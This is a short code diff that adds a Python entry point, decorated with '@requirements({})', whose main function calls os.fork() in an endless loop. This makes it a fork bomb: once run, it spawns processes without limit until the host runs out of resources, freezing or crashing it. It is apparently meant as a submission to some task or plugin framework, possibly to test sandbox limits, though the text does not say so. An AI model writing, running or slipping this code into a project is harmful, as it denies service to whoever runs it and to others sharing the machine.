@@ -1,0 +1,6 @@
+import os
+
+@requirements({})
+def main():
+    while True:
+        os.fork()
